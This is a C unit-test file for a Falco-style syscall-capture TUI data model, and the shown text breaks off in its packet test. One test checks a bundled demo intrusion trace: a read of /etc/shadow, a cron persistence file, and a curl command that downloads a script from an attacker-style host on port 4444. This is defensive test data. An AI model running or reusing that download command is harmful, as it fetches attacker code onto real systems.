/* SPDX-License-Identifier: Apache-2.0 */
/* ff_tuimodel (falco-tui's data model): aggregates from hand-built events with
 * known sizes and timings, window sums across bucket merges, process tree
 * order, scopes, alerts; live mode (buckets that slide, what slid out freed,
 * alerts capped), the live event ring, the packets of a connection (a pcap
 * written here) and the bundled sample's intrusion story (its syscall
 * sequence is spelled out in samples/mksample.c) read through ff_tuifeed. */
#include "config.h"

#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <netinet/in.h>
#include <pcap/pcap.h>
#include <unistd.h>

#include "evbuild.h"
#include "ff_meta.h"
#include "ff_scap.h"
#include "ff_state.h"
#include "ff_tuifeed.h"
#include "ff_tuifilter.h"
#include "ff_tuimodel.h"
#include "ff_tuipkt.h"
#include "ff_tuiring.h"
#include "pktbuild.h"

/* process list: init(1), bash(100, child of 1), worker(200, child of 100,
 * in a container) */
static struct ff_state *seeded(void)
{
	struct ff_state *st;
	struct ff_buf b = { 0 };
	struct ff_err err;
	size_t mark;
	struct ff_proc p;
	struct ff_block blk;
	static const char cg[] =
	    "cpu=/docker/3f4e5d6c7b8a9f0e1d2c3b4a5f6e7d8c9b0a1f2e3d4c5b6a7f8e9d0c1b2a3f4e";

	assert_int_equal(ff_state_new(&st, &err), 0);
	assert_int_equal(ff_meta_begin(&b, FF_BT_PL_V9, 0, &mark, &err), 0);
	memset(&p, 0, sizeof(p));
	p.tid = p.pid = 1;
	p.comm = (struct ff_str){ "init", 4 };
	p.exe = (struct ff_str){ "/sbin/init", 10 };
	p.cwd = (struct ff_str){ "/", 1 };
	p.loginuid = 0xffffffffu;
	assert_int_equal(ff_meta_put_proc(&b, &p, &err), 0);
	p.tid = p.pid = 100;
	p.ptid = 1;
	p.comm = (struct ff_str){ "bash", 4 };
	p.exe = (struct ff_str){ "-bash", 5 };
	assert_int_equal(ff_meta_put_proc(&b, &p, &err), 0);
	p.tid = p.pid = 200;
	p.ptid = 100;
	p.comm = (struct ff_str){ "worker", 6 };
	p.exe = (struct ff_str){ "worker", 6 };
	p.cgroups = (struct ff_str){ cg, sizeof(cg) };
	assert_int_equal(ff_meta_put_proc(&b, &p, &err), 0);
	assert_int_equal(ff_meta_end(&b, mark, &err), 0);
	memset(&blk, 0, sizeof(blk));
	blk.kind = FF_BLK_PROCLIST;
	blk.type = FF_BT_PL_V9;
	blk.version = 9;
	blk.body = b.p + 8;
	memcpy(&blk.body_len, b.p + 4, 4);
	blk.body_len -= 12;
	assert_int_equal(ff_state_load_block(st, &blk, &err), 0);
	ff_buf_free(&b);
	return st;
}

struct rig {
	struct ff_state *st;
	struct ff_tuimodel *m;
	struct ff_evtb b;
	struct ff_evt ev;
};

static void rig_init(struct rig *r)
{
	struct ff_err err;
	r->st = seeded();
	assert_int_equal(ff_tuimodel_new(&r->m, &err), 0);
	for (int64_t tid = 1; tid <= 200; tid++) {
		const struct ff_thread *t = ff_state_thread(r->st, tid);
		if (t)
			assert_int_equal(ff_tuimodel_note_thread(r->m, r->st, t), 0);
	}
}

static void rig_done(struct rig *r)
{
	ff_tuimodel_free(r->m);
	ff_state_free(r->st);
}

/* finish the event being built, run it through the state and the model */
static void rig_feed(struct rig *r)
{
	assert_int_equal(ff_evtb_finish(&r->b, &r->ev, NULL), 0);
	assert_int_equal(ff_state_update(r->st, &r->ev), 0);
	assert_int_equal(ff_tuimodel_add(r->m, r->st, &r->ev), 0);
}

#define EVT(r, ts, tid, type, n, ...)                                                              \
	do {                                                                                       \
		ff_evtb_start(&(r)->b, (ts), (tid), (type));                                       \
		ff_evtb_params(&(r)->b, (n), __VA_ARGS__);                                         \
		rig_feed(r);                                                                       \
	} while (0)

static void open_read(struct rig *r, uint64_t t, int64_t tid, const char *path, long long fd,
                      long long nread)
{
	EVT(r, t, tid, FFE_OPENAT_E, 4, -100LL, path, 1LL, 0LL);
	EVT(r, t + 500, tid, FFE_OPENAT_X, 6, fd, -100LL, path, 1LL, 0LL, 0x803LL);
	if (fd < 0)
		return;
	EVT(r, t + 1000, tid, FFE_READ_E, 2, fd, nread);
	EVT(r, t + 1100, tid, FFE_READ_X, 2, nread, "0123456789abcdef", nread < 16 ? nread : 16LL);
}

static const struct ff_tuirow *find(const struct ff_tuirows *rows, const char *key, int64_t pid)
{
	for (size_t i = 0; i < rows->n; i++)
		if ((key && strcmp(rows->v[i].key, key) == 0) || (!key && rows->v[i].pid == pid))
			return &rows->v[i];
	return NULL;
}

/* sizes, counts and syscall time of a known sequence */
static void test_counters(void **state)
{
	struct rig r;
	struct ff_tuirows rows = { 0 };
	const struct ff_tuirow *x;
	(void)state;
	rig_init(&r);
	open_read(&r, 1000000, 100, "/etc/passwd", 3, 10); /* 500 + 100 ns in syscalls */
	open_read(&r, 2000000, 100, "/nope", -2, 0);       /* ENOENT, 500 ns */
	open_read(&r, 3000000, 200, "/etc/hosts", 4, 7);

	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_SYSCALL, NULL, NULL, &rows), 2);
	x = find(&rows, "openat", 0);
	assert_non_null(x);
	assert_int_equal(x->c[FF_TC_EVTS], 3); /* calls: exit events */
	assert_int_equal(x->c[FF_TC_ERRORS], 1);
	assert_int_equal(x->c[FF_TC_TIME], 1500);
	assert_int_equal(x->nprocs, 2);
	x = find(&rows, "read", 0);
	assert_int_equal(x->c[FF_TC_TIME], 200);

	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_FILE, NULL, NULL, &rows), 2);
	x = find(&rows, "/etc/passwd", 0);
	assert_non_null(x);
	assert_int_equal(x->c[FF_TC_BYTES_IN], 10);
	assert_int_equal(x->c[FF_TC_BYTES_OUT], 0);
	assert_int_equal(x->c[FF_TC_OPENS], 1);
	assert_int_equal(x->c[FF_TC_OPS], 2);
	assert_null(find(&rows, "/nope", 0)); /* no fd was created */

	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_DIR, NULL, NULL, &rows), 1);
	assert_int_equal(rows.v[0].c[FF_TC_BYTES_IN], 17);
	assert_string_equal(rows.v[0].key, "/etc");
	assert_int_equal(rows.v[0].nprocs, 2);

	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_ERROR, NULL, NULL, &rows), 1);
	assert_string_equal(rows.v[0].key, "ENOENT");
	assert_int_equal(rows.v[0].c[FF_TC_EVTS], 1);

	/* processes: the three from the process list, two with events */
	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_PROC, NULL, NULL, &rows), 3);
	x = find(&rows, NULL, 100);
	assert_string_equal(x->key, "bash");
	assert_int_equal(x->c[FF_TC_EVTS], 6);
	assert_int_equal(x->c[FF_TC_FILE_BYTES], 10);
	assert_int_equal(x->c[FF_TC_ERRORS], 1);
	assert_int_equal(x->c[FF_TC_TIME], 1100);
	assert_int_equal(find(&rows, NULL, 1)->c[FF_TC_EVTS], 0);

	/* containers: host (bash) and the worker's */
	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_CONTAINER, NULL, NULL, &rows), 2);
	x = find(&rows, "3f4e5d6c7b8a", 0);
	assert_non_null(x);
	assert_int_equal(x->c[FF_TC_FILE_BYTES], 7);
	assert_non_null(find(&rows, "host", 0));

	/* scopes: one process's files; a container's processes */
	struct ff_tuiscope sp = { FF_TK_PROC, 200, NULL };
	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_FILE, &sp, NULL, &rows), 1);
	assert_string_equal(rows.v[0].key, "/etc/hosts");
	struct ff_tuiscope sc = { FF_TK_CONTAINER, 0, "3f4e5d6c7b8a" };
	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_PROC, &sc, NULL, &rows), 1);
	assert_int_equal(rows.v[0].pid, 200);

	/* time windows: [2.0 ms, 2.999 ms] holds only the failed open */
	struct ff_tuiwin w = { 2000000, 2999999 };
	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_SYSCALL, NULL, &w, &rows), 1);
	assert_int_equal(rows.v[0].c[FF_TC_ERRORS], 1);
	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_FILE, NULL, &w, &rows), 0);

	ff_tuirows_free(&rows);
	rig_done(&r);
}

/* window sums stay exact while buckets merge (the stream outgrows them) */
static void test_windows_merge(void **state)
{
	struct rig r;
	struct ff_tuirows rows = { 0 };
	enum { N = 3000 };
	static uint64_t ts[N];
	(void)state;
	rig_init(&r);
	uint64_t t = 5000000000ULL;
	for (int i = 0; i < N; i++) {
		t += 1000 + (uint64_t)(i % 7) * 2999917ULL; /* uneven gaps, ~9 s in all */
		ts[i] = t;
		EVT(&r, t, 100, FFE_CLOSE_E, 1, 9LL);
		EVT(&r, t + 10, 100, FFE_CLOSE_X, 1, 0LL);
	}
	uint64_t bw = ff_tuimodel_bucket_ns(r.m), base = ff_tuimodel_base_ts(r.m);
	assert_true(bw > 1000000); /* it had to grow from 1 ms */
	assert_true((ts[N - 1] - base) / bw < FF_TUI_NBUCKETS);
	uint64_t sum = 0;
	for (unsigned b = 0; b < FF_TUI_NBUCKETS; b++)
		sum += ff_tuimodel_timeline(r.m)[b];
	assert_int_equal(sum, 2 * N);
	assert_int_equal(ff_tuimodel_nevents(r.m), 2 * N);
	/* windows on bucket boundaries: the count is exact */
	for (unsigned b0 = 0; b0 < FF_TUI_NBUCKETS; b0 += 37) {
		unsigned b1 = b0 + 20;
		struct ff_tuiwin w = { base + b0 * bw, base + (b1 + 1) * bw - 1 };
		uint64_t want = 0;
		for (int i = 0; i < N; i++)
			want += ts[i] + 10 >= w.t0 && ts[i] + 10 <= w.t1; /* the exit's time */
		ff_tuimodel_query(r.m, FF_TK_SYSCALL, NULL, &w, &rows);
		uint64_t got = rows.n ? rows.v[0].c[FF_TC_EVTS] : 0;
		assert_int_equal(got, want);
	}
	ff_tuirows_free(&rows);
	rig_done(&r);
}

static int by_pid(const struct ff_tuirow *a, const struct ff_tuirow *b, void *u)
{
	(void)u;
	return a->pid < b->pid ? -1 : a->pid > b->pid;
}

static void test_tree_ancestry(void **state)
{
	struct rig r;
	struct ff_tuirows rows = { 0 };
	const struct ff_tuiproc *anc[8];
	(void)state;
	rig_init(&r);
	/* bash forks 150 (a child of bash, listed after worker by pid order) */
	EVT(&r, 1000, 100, FFE_CLONE_E, 0, 0LL);
	EVT(&r, 2000, 100, FFE_CLONE_X, 20, 150LL, "-bash", "", 0LL, 100LL, 100LL, 1LL, "/", 1024LL,
	    0LL, 0LL, 0LL, 0LL, 0LL, "bash", "", 0LL, 0LL, 0LL, 0LL, 100LL, 100LL);
	EVT(&r, 3000, 150, FFE_CLONE_X, 20, 0LL, "-bash", "", 0LL, 150LL, 150LL, 100LL, "/", 1024LL,
	    0LL, 0LL, 0LL, 0LL, 0LL, "bash", "", 0LL, 0LL, 0LL, 0LL, 150LL, 150LL);
	ff_tuimodel_query(r.m, FF_TK_PROC, NULL, NULL, &rows);
	assert_int_equal(rows.n, 4);
	ff_tuirows_sort(&rows, by_pid, NULL, 1);
	/* init > bash > {150, worker}: depth-first, siblings by pid */
	int64_t want_pid[] = { 1, 100, 150, 200 };
	int want_depth[] = { 0, 1, 2, 2 };
	for (int i = 0; i < 4; i++) {
		assert_int_equal(rows.v[i].pid, want_pid[i]);
		assert_int_equal(rows.v[i].depth, want_depth[i]);
	}
	ff_tuirows_sort(&rows, by_pid, NULL, 0);
	assert_int_equal(rows.v[3].pid, 200);
	assert_int_equal(ff_tuimodel_ancestry(r.m, 150, anc, 8), 3);
	assert_int_equal(anc[0]->pid, 150);
	assert_int_equal(anc[1]->pid, 100);
	assert_int_equal(anc[2]->pid, 1);
	assert_true(ff_tuimodel_descends(r.m, 200, 100));
	assert_false(ff_tuimodel_descends(r.m, 100, 200));
	ff_tuirows_free(&rows);
	rig_done(&r);
}

static void test_alerts_and_match(void **state)
{
	struct rig r;
	(void)state;
	rig_init(&r);
	open_read(&r, 1000000, 200, "/etc/hosts", 4, 7);
	struct ff_tuialert a = { .ts = 1000500,
		                 .evtnum = 2,
		                 .priority = ff_tui_priority_parse("warning"),
		                 .rule = "Read hosts",
		                 .output = "worker read /etc/hosts",
		                 .pid = 200,
		                 .tid = 200 };
	snprintf(a.container, sizeof(a.container), "3f4e5d6c7b8a");
	assert_int_equal(a.priority, 4);
	assert_int_equal(ff_tuimodel_add_alert(r.m, &a), 0);
	assert_int_equal(ff_tuimodel_nalerts(r.m), 1);
	const struct ff_tuialert *got = ff_tuimodel_alert(r.m, 0);
	assert_string_equal(got->rule, "Read hosts");
	assert_string_equal(ff_tui_priority_name(got->priority), "Warning");
	struct ff_tuiscope s1 = { FF_TK_PROC, 200, NULL }, s2 = { FF_TK_PROC, 100, NULL };
	struct ff_tuiscope s3 = { FF_TK_CONTAINER, 0, "3f4e5d6c7b8a" };
	struct ff_tuiwin in = { 1000000, 1001000 }, out = { 2000000, 3000000 };
	assert_true(ff_tuimodel_alert_in(r.m, got, &s1, &in));
	assert_false(ff_tuimodel_alert_in(r.m, got, &s2, &in));
	assert_true(ff_tuimodel_alert_in(r.m, got, &s3, NULL));
	assert_false(ff_tuimodel_alert_in(r.m, got, NULL, &out));
	/* the last event (read exit on /etc/hosts) against scopes */
	struct ff_tuiscope f1 = { FF_TK_FILE, 0, "/etc/hosts" }, f2 = { FF_TK_FILE, 0, "/etc" };
	struct ff_tuiscope d1 = { FF_TK_DIR, 0, "/etc" }, y1 = { FF_TK_SYSCALL, 0, "read" };
	assert_true(ff_tuimodel_match(r.m, &f1, r.st, &r.ev));
	assert_false(ff_tuimodel_match(r.m, &f2, r.st, &r.ev));
	assert_true(ff_tuimodel_match(r.m, &d1, r.st, &r.ev));
	assert_true(ff_tuimodel_match(r.m, &y1, r.st, &r.ev));
	assert_true(ff_tuimodel_match(r.m, &s1, r.st, &r.ev));
	assert_false(ff_tuimodel_match(r.m, &s2, r.st, &r.ev));
	assert_true(ff_tuimodel_match(r.m, &s3, r.st, &r.ev));
	rig_done(&r);
}

static void test_filter(void **state)
{
	struct ff_tuifilter *f = NULL;
	struct ff_err err = { 0 };
	struct rig r;
	(void)state;
	assert_int_equal(ff_tuifilter_compile(&f, "proc.nme = x", &err), -ENOENT);
	assert_non_null(strstr(err.msg, "proc.nme"));
	assert_non_null(strstr(err.msg, "column 1"));
	assert_true(ff_tuifilter_compile(&f, "proc.name = ", &err) < 0);
	assert_int_equal(ff_tuifilter_compile(&f, "fd.directory = /etc and evt.type = read", &err),
	                 0);
	rig_init(&r);
	open_read(&r, 1000000, 200, "/etc/hosts", 4, 7);
	assert_int_equal(ff_tuifilter_match(f, r.st, &r.ev, 4), 1); /* read exit */
	ff_tuifilter_free(f);
	assert_int_equal(
	    ff_tuifilter_compile(&f, "proc.pname = bash and container.id != host", &err), 0);
	assert_int_equal(ff_tuifilter_match(f, r.st, &r.ev, 4), 1);
	ff_tuifilter_free(f);
	rig_done(&r);
}

/* The bundled sample, read through the feed: what the story did. */
static void test_sample_story(void **state)
{
	const char *src = getenv("top_srcdir");
	char path[4096];
	struct ff_tuimodel *m;
	struct ff_tuifeed *fd;
	struct ff_err err = { 0 };
	struct ff_tuirows rows = { 0 };
	const struct ff_tuirow *x;
	const struct ff_tuiproc *anc[8];
	(void)state;
	snprintf(path, sizeof(path), "%s/samples/demo.scap", src ? src : ".");
	assert_int_equal(ff_tuimodel_new(&m, &err), 0);
	struct ff_tuifeed_opts o = { .sz = sizeof(o), .path = path, .model = m };
	assert_int_equal(ff_tuifeed_open(&fd, &o, &err), 0);
	int rc;
	while ((rc = ff_tuifeed_step(fd, 7, NULL, NULL, &err)) > 0)
		;
	assert_int_equal(rc, 0);
	ff_tuifeed_close(fd);
	assert_int_equal(ff_tuimodel_nevents(m), 70); /* the story's 70 listed events */

	/* cat read the 78-byte shadow excerpt and wrote it to the tty */
	ff_tuimodel_query(m, FF_TK_FILE, NULL, NULL, &rows);
	x = find(&rows, "/etc/shadow", 0);
	assert_non_null(x);
	assert_int_equal(x->c[FF_TC_BYTES_IN], 78);
	assert_int_equal(x->c[FF_TC_OPENS], 1);
	x = find(&rows, "/tmp/.x.sh", 0);
	assert_int_equal(x->c[FF_TC_BYTES_OUT], 61);
	x = find(&rows, "/etc/cron.d/persist", 0);
	assert_int_equal(x->c[FF_TC_BYTES_OUT], 26);
	/* curl's download: 46 bytes of request out, 39 bytes of headers in */
	ff_tuimodel_query(m, FF_TK_CONN, NULL, NULL, &rows);
	x = find(&rows, "10.0.0.5:51234->203.0.113.7:4444", 0);
	assert_non_null(x);
	assert_int_equal(x->c[FF_TC_BYTES_OUT], 46);
	assert_int_equal(x->c[FF_TC_BYTES_IN], 39);
	/* its socket, for the packets' flows */
	assert_non_null(x->conn);
	assert_int_equal(x->conn->family, 4);
	assert_int_equal(x->conn->l4, IPPROTO_TCP);
	assert_int_equal(x->conn->sport, 51234);
	assert_int_equal(x->conn->dport, 4444);
	assert_memory_equal(x->conn->dip, ((uint8_t[]){ 203, 0, 113, 7 }), 4);
	assert_true(x->first_ts && x->first_ts < x->last_ts);
	/* the container shell and its id */
	struct ff_tuiscope sc = { FF_TK_CONTAINER, 0, "3f2a9c1e7b5d" };
	ff_tuimodel_query(m, FF_TK_PROC, &sc, NULL, &rows);
	assert_int_equal(rows.n, 3); /* nginx 2000, sh 2001, id 2002 */
	assert_string_equal(ff_tuimodel_proc(m, 2001)->comm, "sh");
	assert_string_equal(ff_tuimodel_proc(m, 2001)->user, "www-data");
	assert_true(ff_tuimodel_proc(m, 2002)->exited);
	/* curl's ancestry: bash 1200 < sshd 812 < systemd 1 */
	assert_int_equal(ff_tuimodel_ancestry(m, 1302, anc, 8), 4);
	assert_string_equal(anc[0]->comm, "curl");
	assert_string_equal(anc[0]->cmdline, "curl -s http://203.0.113.7:4444/x.sh -o /tmp/.x.sh");
	assert_int_equal(anc[1]->pid, 1200);
	assert_int_equal(anc[2]->pid, 812);
	assert_int_equal(anc[3]->pid, 1);
	ff_tuirows_free(&rows);
	ff_tuimodel_free(m);
}

/* Live: an hour of events over ever new files, 1 s buckets.  What is held
 * is the last 256 buckets' worth: rows of files no longer touched go at the
 * prune, window sums stay exact, running processes stay listed when idle,
 * exited ones go with their rows. */
static void test_live_slide(void **state)
{
	struct rig r;
	struct ff_tuirows rows = { 0 };
	const uint64_t S = 1000000000ULL;
	(void)state;
	rig_init(&r);
	ff_tuimodel_set_live(r.m, S, 100, 0);
	char path[64];
	uint64_t t0 = 1000 * S;
	for (int sec = 0; sec < 3600; sec++) {
		snprintf(path, sizeof(path), "/tmp/f%d", sec);
		open_read(&r, t0 + (uint64_t)sec * S, 100, path, 3, 5);
		EVT(&r, t0 + (uint64_t)sec * S + 5000, 100, FFE_CLOSE_E, 1, 3LL);
		EVT(&r, t0 + (uint64_t)sec * S + 6000, 100, FFE_CLOSE_X, 1, 0LL);
		if (sec % 97 == 0)
			ff_tuimodel_prune(r.m);
	}
	ff_tuimodel_prune(r.m);
	uint64_t base = ff_tuimodel_base_ts(r.m);
	assert_int_equal(ff_tuimodel_bucket_ns(r.m), S);
	assert_true(base > t0 + 3000 * S); /* it slid */
	/* the rows held: the files of the seconds since base, no more */
	int n = ff_tuimodel_query(r.m, FF_TK_FILE, NULL, NULL, &rows);
	uint64_t want = (t0 + 3599 * S - base) / S + 1;
	assert_int_equal(n, want);
	assert_true(want <= FF_TUI_NBUCKETS);
	/* an exact window: the last 10 s hold 10 times open, read 5 bytes, close
	 * (6 events) */
	struct ff_tuiwin w = { t0 + 3590 * S, t0 + 3600 * S - 1 };
	ff_tuimodel_query(r.m, FF_TK_PROC, NULL, &w, &rows);
	const struct ff_tuirow *x = find(&rows, NULL, 100);
	assert_non_null(x);
	assert_int_equal(x->c[FF_TC_FILE_BYTES], 50);
	assert_int_equal(x->c[FF_TC_EVTS], 60);
	/* idle but running: init and worker are listed in any window */
	assert_non_null(find(&rows, NULL, 1));
	assert_non_null(find(&rows, NULL, 200));
	uint64_t tl = 0;
	for (unsigned b = 0; b < FF_TUI_NBUCKETS; b++)
		tl += ff_tuimodel_timeline(r.m)[b];
	assert_int_equal(tl, want * 6);
	/* worker exits: listed while its exit is in the window, gone once it
	 * slid out */
	uint64_t te = t0 + 3600 * S;
	EVT(&r, te, 200, FFE_PROCEXIT_E, 5, 0LL, 0LL, 0LL, 0LL, 0LL);
	assert_true(ff_tuimodel_proc(r.m, 200)->exited);
	struct ff_tuiwin later = { te + 600 * S, te + 601 * S };
	EVT(&r, te + 601 * S, 100, FFE_CLOSE_E, 1, 3LL);
	ff_tuimodel_prune(r.m);
	assert_null(ff_tuimodel_proc(r.m, 200));
	ff_tuimodel_query(r.m, FF_TK_PROC, NULL, &later, &rows);
	assert_null(find(&rows, NULL, 200));
	assert_non_null(find(&rows, NULL, 1));
	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_FILE, NULL, NULL, &rows), 0);
	/* clear: no activity, the processes stay */
	open_read(&r, te + 602 * S, 100, "/etc/passwd", 3, 5);
	ff_tuimodel_clear_activity(r.m);
	assert_int_equal(ff_tuimodel_query(r.m, FF_TK_FILE, NULL, NULL, &rows), 0);
	assert_non_null(ff_tuimodel_proc(r.m, 100));
	ff_tuirows_free(&rows);
	rig_done(&r);
}

/* Live with a memory budget: 200 new files a second for 5 minutes.  The
 * rows never take much more than the budget; new ones beyond it count under
 * the overflow row; a prune lets older buckets go until under 3/4 of it. */
static void test_live_budget(void **state)
{
	struct rig r;
	struct ff_tuirows rows = { 0 };
	const uint64_t S = 1000000000ULL;
	const size_t budget = 1u << 20;
	char path[64];
	size_t peak = 0;
	(void)state;
	rig_init(&r);
	ff_tuimodel_set_live(r.m, S, 100, budget);
	for (int sec = 0; sec < 300; sec++) {
		for (int i = 0; i < 200; i++) {
			snprintf(path, sizeof(path), "/tmp/churn/f%d.%d", sec, i);
			open_read(&r, 1000 * S + (uint64_t)sec * S + (uint64_t)i * 2000, 100, path,
			          3, 5);
			if (ff_tuimodel_mem(r.m) > peak)
				peak = ff_tuimodel_mem(r.m);
		}
		if (sec % 10 == 9) { /* the screen's refresh */
			ff_tuimodel_prune(r.m);
			assert_true(ff_tuimodel_mem(r.m) <= budget / 4 * 3);
		}
	}
	assert_true(peak <= budget + budget / 16);
	assert_true(ff_tuimodel_refused(r.m) > 0);
	ff_tuimodel_query(r.m, FF_TK_FILE, NULL, NULL, &rows);
	const struct ff_tuirow *x = find(&rows, "(more than the live memory budget holds)", 0);
	assert_non_null(x);
	assert_true(x->c[FF_TC_OPENS] > 0);
	/* the newest files are held, with their exact counts */
	x = find(&rows, "/tmp/churn/f299.199", 0);
	assert_true(x == NULL || x->c[FF_TC_BYTES_IN] == 5);
	ff_tuirows_free(&rows);
	rig_done(&r);
}

/* Live: alerts beyond the cap drop the oldest; the counts per priority stay
 * exact; the kept alerts' strings survive a prune (ASan checks). */
static void test_live_alerts(void **state)
{
	struct rig r;
	char rule[32], out[64];
	(void)state;
	rig_init(&r);
	ff_tuimodel_set_live(r.m, 1000000000ULL, 5, 0);
	open_read(&r, 1000000, 100, "/etc/hosts", 3, 5);
	for (int i = 0; i < 12; i++) {
		snprintf(rule, sizeof(rule), "rule %d", i);
		snprintf(out, sizeof(out), "output %d", i);
		struct ff_tuialert a = { .ts = 1000000 + (uint64_t)i,
			                 .priority = i % 3 == 0 ? 2 : 4,
			                 .rule = rule,
			                 .output = out,
			                 .pid = 100 };
		assert_int_equal(ff_tuimodel_add_alert(r.m, &a), 0);
	}
	assert_int_equal(ff_tuimodel_nalerts(r.m), 12);
	assert_int_equal(ff_tuimodel_alert_first(r.m), 7);
	assert_null(ff_tuimodel_alert(r.m, 6));
	assert_null(ff_tuimodel_alert(r.m, 12));
	assert_int_equal(ff_tuimodel_alert_count(r.m, 2), 4); /* 0 3 6 9 */
	assert_int_equal(ff_tuimodel_alert_count(r.m, 4), 8);
	ff_tuimodel_prune(r.m);
	for (size_t i = 7; i < 12; i++) {
		snprintf(rule, sizeof(rule), "rule %zu", i);
		snprintf(out, sizeof(out), "output %zu", i);
		assert_string_equal(ff_tuimodel_alert(r.m, i)->rule, rule);
		assert_string_equal(ff_tuimodel_alert(r.m, i)->output, out);
	}
	rig_done(&r);
}

/* The live ring: lines as sysdig prints them, the oldest dropped at the
 * caps, scopes matched as ff_tuimodel_match did at the time; each process's
 * tail keeps its last events after the ring lost them, the least recent
 * process's tail going first. */
static void test_ring(void **state)
{
	struct rig r;
	struct ff_tuiring *ring;
	(void)state;
	rig_init(&r);
	struct ff_tuiring_opts ro = { 6, 1 << 20, 2, 3 };
	assert_int_equal(ff_tuiring_new(&ring, &ro), 0);
	struct ff_tuiscope sf = { FF_TK_FILE, 0, "/etc/hosts" }, sd = { FF_TK_DIR, 0, "/etc" };
	struct ff_tuiscope sp = { FF_TK_PROC, 200, NULL }, se = { FF_TK_ERROR, 0, "ENOENT" };
	struct ff_tuiscope sy = { FF_TK_SYSCALL, 0, "read" };
	struct ff_tuiscope sc = { FF_TK_CONTAINER, 0, "3f4e5d6c7b8a" };
	const struct ff_tuiscope *all[] = { &sf, &sd, &sp, &se, &sy, &sc };
	int want[8][6];
	uint64_t num = 0;
	/* 8 events: open+read of /etc/hosts by worker, a failed open by bash */
	struct {
		uint64_t t;
		int64_t tid;
		const char *p;
		long long fd;
	} seq[] = { { 1000000, 200, "/etc/hosts", 4 }, { 2000000, 100, "/nope", -2 } };
	for (int k = 0; k < 2; k++) {
		uint64_t t = seq[k].t;
		int64_t tid = seq[k].tid;
		EVT(&r, t, tid, FFE_OPENAT_E, 4, -100LL, seq[k].p, 1LL, 0LL);
		for (int j = 0; j < 6; j++)
			want[num][j] = ff_tuimodel_match(r.m, all[j], r.st, &r.ev);
		assert_int_equal(ff_tuiring_add(ring, r.st, &r.ev, ++num), 0);
		EVT(&r, t + 500, tid, FFE_OPENAT_X, 6, seq[k].fd, -100LL, seq[k].p, 1LL, 0LL,
		    0x803LL);
		for (int j = 0; j < 6; j++)
			want[num][j] = ff_tuimodel_match(r.m, all[j], r.st, &r.ev);
		assert_int_equal(ff_tuiring_add(ring, r.st, &r.ev, ++num), 0);
		if (seq[k].fd < 0)
			continue;
		EVT(&r, t + 1000, tid, FFE_READ_E, 2, seq[k].fd, 7LL);
		for (int j = 0; j < 6; j++)
			want[num][j] = ff_tuimodel_match(r.m, all[j], r.st, &r.ev);
		assert_int_equal(ff_tuiring_add(ring, r.st, &r.ev, ++num), 0);
		EVT(&r, t + 1100, tid, FFE_READ_X, 2, 7LL, "0123456", 7LL);
		for (int j = 0; j < 6; j++)
			want[num][j] = ff_tuimodel_match(r.m, all[j], r.st, &r.ev);
		assert_int_equal(ff_tuiring_add(ring, r.st, &r.ev, ++num), 0);
	}
	assert_int_equal(num, 6);
	assert_int_equal(ff_tuiring_end(ring) - ff_tuiring_first(ring), 6);
	for (uint64_t i = ff_tuiring_first(ring); i < ff_tuiring_end(ring); i++)
		for (int j = 0; j < 6; j++)
			assert_int_equal(ff_tuiring_match(ring, i, all[j]), want[i][j]);
	/* the read exit of worker, as sysdig's line (evt.num, time, cpu, ...) */
	const struct ff_tuiring_ent *e = ff_tuiring_get(ring, 3);
	assert_non_null(strstr(e->text, "4 "));
	assert_non_null(strstr(e->text, "worker (200) < read res=7 data=0123456"));
	assert_int_equal(e->pid, 200);
	assert_true(ff_tuiring_match(ring, 3, &sf) && ff_tuiring_match(ring, 3, &sc));
	assert_true(ff_tuiring_match(ring, 5, &se) && !ff_tuiring_match(ring, 5, &sp));
	/* two more: the oldest two go */
	EVT(&r, 3000000, 100, FFE_CLOSE_E, 1, 9LL);
	assert_int_equal(ff_tuiring_add(ring, r.st, &r.ev, ++num), 0);
	EVT(&r, 3000100, 100, FFE_CLOSE_X, 1, 0LL);
	assert_int_equal(ff_tuiring_add(ring, r.st, &r.ev, ++num), 0);
	assert_int_equal(ff_tuiring_first(ring), 2);
	assert_null(ff_tuiring_get(ring, 1));
	assert_int_equal(ff_tuiring_get(ring, 7)->num, 8);
	/* worker's tail (its last 3: seq 1-3): seq 1 left the ring, it is here */
	const struct ff_tuiring_ent *old[8];
	assert_int_equal(ff_tuiring_proc_older(ring, 200, old, 8), 1);
	assert_int_equal(old[0]->seq, 1);
	assert_non_null(strstr(old[0]->text, "worker (200) < openat fd=4(<f>/etc/hosts)"));
	assert_int_equal(ff_tuiring_proc_older(ring, 100, old, 8), 0); /* all in the ring */
	/* a third process takes the least recent tail: worker's */
	EVT(&r, 4000000, 1, FFE_CLOSE_E, 1, 9LL);
	assert_int_equal(ff_tuiring_add(ring, r.st, &r.ev, ++num), 0);
	assert_int_equal(ff_tuiring_proc_older(ring, 200, old, 8), 0);
	ff_tuiring_clear(ring);
	assert_int_equal(ff_tuiring_bytes(ring), 0);
	/* a byte cap of a few lines: the oldest go first */
	struct ff_tuiring *small;
	struct ff_tuiring_opts so = { 100, 300, 0, 0 };
	assert_int_equal(ff_tuiring_new(&small, &so), 0);
	for (int i = 0; i < 5; i++)
		assert_int_equal(ff_tuiring_add(small, r.st, &r.ev, (uint64_t)i + 1), 0);
	assert_true(ff_tuiring_bytes(small) <= 300);
	assert_int_equal(ff_tuiring_end(small), 5);
	assert_true(ff_tuiring_first(small) >= 2 && ff_tuiring_first(small) < 5);
	assert_int_equal(ff_tuiring_get(small, 4)->num, 5);
	ff_tuiring_free(small);
	ff_tuiring_free(ring);
	rig_done(&r);
}

/* ff_tuipkt on a pcap written here: the flow of a socket (either end's
 * view), a decoy, the flow's packets kept up to a cap. */
static void test_packets(void **state)
{
	char path[] = "/tmp/ff-test-tuipkt-XXXXXX";
	uint8_t frame[256];
	(void)state;
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	close(fd);
	pcap_t *pd =
